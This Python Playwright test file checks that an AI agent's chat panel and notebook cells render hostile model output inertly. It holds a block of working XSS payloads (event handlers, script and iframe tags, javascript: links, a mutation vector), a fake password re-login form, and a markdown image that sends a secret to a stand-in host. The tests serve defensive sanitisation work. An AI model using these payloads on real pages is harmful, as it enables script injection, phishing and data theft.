"""A model that was talked into harm writes Markdown and HTML; nothing of it runs, fetches, submits or misleads."""

from playwright.sync_api import Locator, Page, expect

from chat_page import Chat
from lab_page import LabPage
from model_server import Call, ModelServer, Reply
from sink import stranger

HOSTILE = """\
The beginning.

<img src=x onerror="window.harmed = 'onerror'"> <svg onload="window.harmed = 'svg'"></svg>
<script>window.harmed = 'script'</script> <iframe srcdoc="<script>parent.harmed = 'iframe'</script>"></iframe>
<style>body {{ display: none }} @import url({url}/style.css);</style> <link rel=stylesheet href="{url}/link.css">
<div style="position: fixed; inset: 0; z-index: 9; background: url({url}/background.png)">over everything</div>
<form action="{url}/form"><input name=password autofocus><button>Sign in again</button></form>
<video src="{url}/video.mp4" poster="{url}/poster.png" autoplay></video> <object data="{url}/object"></object>
<a href="javascript:window.harmed = 'html link'">html link</a> <base href="{url}/base/">
<math><mtext><table><mglyph><style><img src=x onerror="window.harmed = 'mutation'"></style></mglyph></table></mtext>

![a chart]({url}/leak.png?secret=README) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Imhhcm1lZCI+PC9zdmc+)

[click me](javascript:window.harmed='link') and [me](data:text/html,harm) and <{url}/autolink>

| a | b |
|---|---|
| ![cell]({url}/cell.png) | <img src="{url}/raw.png"> |

```html
<script>window.harmed = 'code'</script>
```

- [ ] <img src=x onerror="window.harmed = 'list'">

The end.
"""


def expect_harmless(page: Page, answer: Locator) -> None:
    expect(answer).to_contain_text("The end.")
    for bad in ("script", "iframe", "style", "link", "form", "input", "video", "object", "base", "svg:not(.dsp-icon)"):
        expect(answer.locator(bad)).to_have_count(0)
    expect(answer.locator("img")).to_have_count(0)
    expect(answer.locator("[onerror], [onload], [style], [href^='javascript:'], [href^='data:']")).to_have_count(0)
    for link in answer.get_by_text("click me").or_(answer.get_by_text("html link")).all():
        link.click()
    assert len(page.context.pages) == 1
    assert page.evaluate("() => window.harmed") is None


def test_hostile_markdown_does_nothing_in_the_panel(page: LabPage, model: ModelServer) -> None:
    with stranger() as (url, visited):
        model.script = [Reply(HOSTILE.format(url=url), pace=0.002)]
        chat = page.new_chat()
        chat.send("show me")
        answer = chat.finished("The end.")
        expect_harmless(page.page, answer)
        outward = answer.get_by_role("link", name=f"{url}/autolink")
        expect(outward).to_have_attribute("rel", "noopener noreferrer")
        expect(outward).to_have_attribute("target", "_blank")
        expect(answer.locator("pre")).to_contain_text("<script>window.harmed = 'code'</script>")
    assert visited == []


def test_hostile_markdown_does_nothing_in_a_cell(page: LabPage, model: ModelServer) -> None:
    with stranger() as (url, visited):
        model.script = [Reply(HOSTILE.format(url=url), pace=0.002)]
        notebook = page.notebook("hostile.ipynb", "%load_ext dispatch_jupyter\n%dispatch --session new show me")
        answer = notebook.run(0).first.locator(".dispatch-answer")
        expect_harmless(page.page, answer)
    assert visited == []


def test_hostile_names_results_and_errors_are_only_text(page: LabPage, model: ModelServer) -> None:
    evil = "<img src=x onerror=\"window.harmed='call'\">"
    (page.process.project / "evil.txt").write_text(f"{evil}\n")
    with stranger() as (url, visited):
        model.script = [
            Reply(
                reasoning=f"{evil} ![]({url}/reasoning.png)",
                calls=[
                    Call("read_file", {"path": "evil.txt"}),
                    Call("read_file", {"path": evil}),
                    Call(f"{evil}", {evil: evil}),
                    Call("write_file", {"path": "evil.html", "content": f"<script>harmed = 1</script>\n{evil}\n"}),
                ],
            ),
            Reply("That was all."),
        ]
        chat = page.new_chat()
        chat.send(f"**{evil}** <script>harmed = 1</script>")
        chat.finished("That was all.")
        _unfold_all(chat)
        expect(chat.calls).to_have_count(4)
        expect(chat.people.last).to_contain_text(evil)
        expect(chat.root.locator("img, script")).to_have_count(0)
        expect(chat.root.locator("[aria-label=Result]").first).to_contain_text(evil)
    assert page.page.evaluate("() => window.harmed") is None
    assert visited == []


def _unfold_all(chat: Chat) -> None:
    folded = chat.root.locator(".dsp-content [aria-expanded=false]")
    while folded.count():
        folded.first.click(position={"x": 6, "y": 8})
